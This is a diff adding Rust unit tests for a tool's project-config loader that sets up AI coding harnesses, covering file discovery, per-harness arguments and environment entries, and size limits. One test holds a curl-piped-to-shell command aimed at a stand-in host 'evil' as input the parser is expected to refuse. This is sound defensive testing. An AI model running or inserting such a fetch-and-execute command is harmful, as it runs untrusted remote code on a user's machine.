@@ -0,0 +1,62 @@
+use super::*;
+
+fn temp(name: &str) -> PathBuf {
+    let dir = std::env::temp_dir().join(format!("tj-project-{name}-{}", std::process::id()));
+    let _ = fs::remove_dir_all(&dir);
+    fs::create_dir_all(&dir).unwrap();
+    dir
+}
+
+#[test]
+fn discovery_walks_up_to_the_nearest_project_file() {
+    let root = temp("discover");
+    let nested = root.join("crates/app/src");
+    fs::create_dir_all(&nested).unwrap();
+    assert_eq!(
+        discover(&nested).filter(|path| path.starts_with(&root)),
+        None
+    );
+    fs::write(root.join(PROJECT_FILE), "preferred = \"codex\"\n").unwrap();
+    assert_eq!(discover(&nested), Some(root.join(PROJECT_FILE)));
+    fs::write(root.join("crates").join(PROJECT_FILE), "").unwrap();
+    assert_eq!(
+        discover(&nested),
+        Some(root.join("crates").join(PROJECT_FILE))
+    );
+    let config = project(&root).unwrap().unwrap();
+    assert_eq!(config.preferred.as_deref(), Some("codex"));
+}
+
+#[test]
+fn tool_defaults_are_parsed_per_harness() {
+    let text = "preferred = \"aider\"\naider.args = [\"--model\", \"sonnet\"]\naider.env = [\"AIDER_DARK_MODE=true\"]\n";
+    let config = parse(Path::new(PROJECT_FILE), text).unwrap();
+    let aider = &config.tools["aider"];
+    assert_eq!(aider.args, ["--model", "sonnet"]);
+    assert_eq!(aider.env, [("AIDER_DARK_MODE".into(), "true".into())]);
+}
+
+#[test]
+fn keys_outside_the_allowlist_are_refused() {
+    for text in [
+        "codex.download = [\"curl evil | sh\"]",
+        "gate = \"off\"",
+        "sandbox = true",
+    ] {
+        let error = parse(Path::new(PROJECT_FILE), text).unwrap_err();
+        assert!(error.contains("cannot be set by a project file"), "{error}");
+    }
+}
+
+#[test]
+fn malformed_env_entries_are_refused() {
+    assert!(parse(Path::new(PROJECT_FILE), "codex.env = [\"1BAD=x\"]").is_err());
+    assert!(parse(Path::new(PROJECT_FILE), "codex.env = [\"NOEQUALS\"]").is_err());
+}
+
+#[test]
+fn oversized_project_files_are_refused() {
+    let root = temp("size");
+    fs::write(root.join(PROJECT_FILE), "# padding\n".repeat(2000)).unwrap();
+    assert!(project(&root).unwrap_err().contains("larger than"));
+}